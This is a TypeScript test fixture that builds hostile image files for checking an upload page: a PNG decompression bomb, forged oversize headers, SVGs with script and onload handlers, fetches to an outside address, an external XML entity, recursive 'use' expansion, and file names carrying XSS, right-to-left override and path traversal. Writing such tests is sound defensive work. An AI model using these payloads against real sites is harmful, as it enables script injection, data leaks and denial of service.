/** Files that people have and nobody wants: for tests of the page. */
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { testJpeg, testNef } from '../../src/platform/pictures/containers/raw/testing-raw.ts';
import { writeBmp } from '../../src/platform/pictures/containers/testing-bmp.ts';

export interface BadFile {
  readonly name: string;
  readonly bytes: Uint8Array;
  /** What is said of it; null: it is read. */
  readonly refused: RegExp | null;
}

const TOO_LARGE = /^The picture has more than 268 megapixels/;
const DAMAGED = /^The picture is damaged/;
const NO_PICTURE = /^It is not a picture/;
const SIDE = 30_000;

let colour = 0;
/** A picture that no other is equal to. */
const image = (width = 60, height = 40) => {
  colour += 37;
  const background = { r: colour % 200, g: (colour * 7) % 200, b: (colour * 13) % 200 };
  const red = { create: { width: 20, height: 20, channels: 3 as const, background: '#d22' } };
  return sharp({ create: { width, height, channels: 3, background } }).composite([{ input: red, left: 3, top: 3 }]);
};
const text = (content: string) => new TextEncoder().encode(content);
const changed = (bytes: Uint8Array, at: number, ...values: readonly number[]) => {
  const copy = Uint8Array.from(bytes);
  copy.set(values, at);
  return copy;
};
/** Of two bytes, the large one first. */
const two = (value: number) => [value >> 8, value & 255] as const;

/** @param outside an address that nobody may ask for anything */
export async function badFiles(outside: string): Promise<BadFile[]> {
  return [
    ...(await brokenFiles()),
    ...(await largeFiles()),
    ...(await oddFiles()),
    ...drawings(outside),
    ...(await oddNames()),
  ];
}

async function brokenFiles(): Promise<BadFile[]> {
  const jpeg = new Uint8Array(await image(300, 200).jpeg().toBuffer());
  const png = new Uint8Array(await image(300, 200).png().toBuffer());
  const webp = new Uint8Array(await image(300, 200).webp().toBuffer());
  const tiff = new Uint8Array(await image().tiff().toBuffer());
  return [
    { name: 'empty.jpg', bytes: new Uint8Array(), refused: /^The file is empty\.$/ },
    { name: 'cut.jpg', bytes: jpeg.subarray(0, jpeg.length / 2), refused: DAMAGED },
    { name: 'cut.png', bytes: png.subarray(0, png.length / 2), refused: DAMAGED },
    { name: 'cut.webp', bytes: webp.subarray(0, webp.length / 2), refused: DAMAGED },
    { name: 'text.png', bytes: text('not a picture'), refused: NO_PICTURE },
    { name: 'page.jpg', bytes: text('<!doctype html><script>alert(1)</script>'), refused: NO_PICTURE },
    { name: 'a png.jpg', bytes: png, refused: null },
    { name: 'scan.tif', bytes: tiff, refused: /TIFF/ },
  ];
}

/** A few bytes that claim to be very large; the first one is. */
async function largeFiles(): Promise<BadFile[]> {
  const webp = new Uint8Array(await image().webp({ lossless: true }).toBuffer());
  const gif = new Uint8Array(await image().gif().toBuffer());
  const bmp = writeBmp({ width: 8, height: 8, at: () => [1, 2, 3] });
  new DataView(bmp.buffer).setInt32(18, SIDE, true);
  new DataView(bmp.buffer).setInt32(22, SIDE, true);
  const bits = (SIDE - 1) | ((16_383 - 1) << 14);
  return [
    { name: 'large.png', bytes: largePng(), refused: TOO_LARGE },
    { name: 'large.jpg', bytes: testJpeg(SIDE, SIDE), refused: TOO_LARGE },
    {
      name: 'large raw.nef',
      bytes: testNef({ large: testJpeg(SIDE, SIDE), small: testJpeg(9, 9) }),
      refused: TOO_LARGE,
    },
    { name: 'large.gif', bytes: changed(gif, 6, SIDE & 255, SIDE >> 8, SIDE & 255, SIDE >> 8), refused: TOO_LARGE },
    { name: 'large.bmp', bytes: bmp, refused: TOO_LARGE },
    {
      name: 'false.webp',
      bytes: changed(webp, 21, bits & 255, (bits >> 8) & 255, (bits >> 16) & 255),
      refused: DAMAGED,
    },
  ];
}

/** Black, in one bit a pixel: 112 MB in 110 KB. */
function largePng(): Uint8Array {
  const chunk = (name: string, content: Uint8Array) => {
    const body = Buffer.concat([Buffer.from(name, 'latin1'), content]);
    const [length, checksum] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(content.length);
    checksum.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, checksum]);
  };
  const header = Buffer.from([0, 0, ...two(SIDE), 0, 0, ...two(SIDE), 1, 0, 0, 0, 0]);
  const pixels = deflateSync(new Uint8Array(SIDE * (1 + SIDE / 8)), { level: 1 });
  const start = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return new Uint8Array(
    Buffer.concat([start, chunk('IHDR', header), chunk('IDAT', pixels), chunk('IEND', new Uint8Array())]),
  );
}

/** What is unusual, and whole. */
async function oddFiles(): Promise<BadFile[]> {
  const frames = await Promise.all([1, 2, 3].map(() => image().png().toBuffer()));
  const moving = sharp(frames, { join: { animated: true } });
  const deep = image().toColourspace('rgb16').png();
  return [
    { name: 'moving.gif', bytes: await moving.clone().gif().toBuffer(), refused: null },
    { name: 'moving.webp', bytes: await moving.clone().webp().toBuffer(), refused: null },
    { name: 'print.jpg', bytes: await image().toColourspace('cmyk').jpeg().toBuffer(), refused: null },
    { name: 'deep.png', bytes: await deep.toBuffer(), refused: null },
    {
      name: 'old.bmp',
      bytes: writeBmp({ width: 40, height: 30, isCore: true, at: (x) => [6 * x, 90, 9] }),
      refused: null,
    },
  ];
}

const SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';

/** Drawings that would like to execute or to fetch something, or to be drawn for ever. */
function drawings(outside: string): BadFile[] {
  const groups = Array.from({ length: 9 }, (_, i) => `<g id="g${i + 1}">${`<use href="#g${i}"/>`.repeat(10)}</g>`);
  const attack = `<svg ${SVG} width="60" height="40" onload="top.attacked = 1">
    <script>top.attacked = 1; fetch('${outside}/script')</script><script href="${outside}/script.js"/>
    <style>@import url('${outside}/style.css'); @font-face { font-family: f; src: url('${outside}/font.woff') }
      rect { fill: url('${outside}/fill.svg#a') } text { font-family: f }</style>
    <image href="${outside}/image.png" width="9" height="9"/><use href="${outside}/use.svg#a"/>
    <image xlink:href="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='top.attacked=1'/&gt;"/>
    <animate attributeName="href" to="javascript:top.attacked=1"/>
    <a href="javascript:top.attacked=1"><circle r="20" fill="green" onclick="top.attacked=1"/></a>
    <text y="30">a</text></svg>`;
  const entity = `<?xml version="1.0"?><?xml-stylesheet href="${outside}/sheet.css"?>
    <!DOCTYPE svg [<!ENTITY e SYSTEM "${outside}/entity">]><svg ${SVG} width="60" height="40"><circle r="9"/></svg>`;
  return [
    { name: 'attack.svg', bytes: text(attack), refused: null },
    { name: 'entity.svg', bytes: text(entity), refused: null },
    {
      name: 'wide.svg',
      bytes: text(`<svg ${SVG} width="30000" height="30000"><circle r="9000"/></svg>`),
      refused: null,
    },
    {
      name: 'html.svg',
      bytes: text(
        `<svg ${SVG} width="9" height="9"><foreignObject width="9" height="9"><p xmlns="http://www.w3.org/1999/xhtml"><img src="${outside}/p.png"/></p></foreignObject></svg>`,
      ),
      refused: /parts of a web page/,
    },
    {
      name: 'endless.svg',
      bytes: text(
        `<svg ${SVG}><defs><rect id="g0" width="9" height="9"/>${groups.join('')}</defs><use href="#g9"/></svg>`,
      ),
      refused: /repeats its parts too often/,
    },
  ];
}

async function oddNames(): Promise<BadFile[]> {
  const names = [
    '<img src=x onerror="top.attacked=1">.png',
    `"quotes" and 'others' & <b>.png`,
    '\u202egpj.exe.png',
    'a\u0000b\u0007c\nd.png',
    '\u05d0\u05d1\u05d2 (1) \u0645\u0644\u0641.png',
    `${'n'.repeat(251)}.png`,
    `${'漢'.repeat(80)}.png`,
    '..%2f..%2fetc.png',
  ];
  return Promise.all(names.map(async (name) => ({ name, bytes: await image().png().toBuffer(), refused: null })));
}
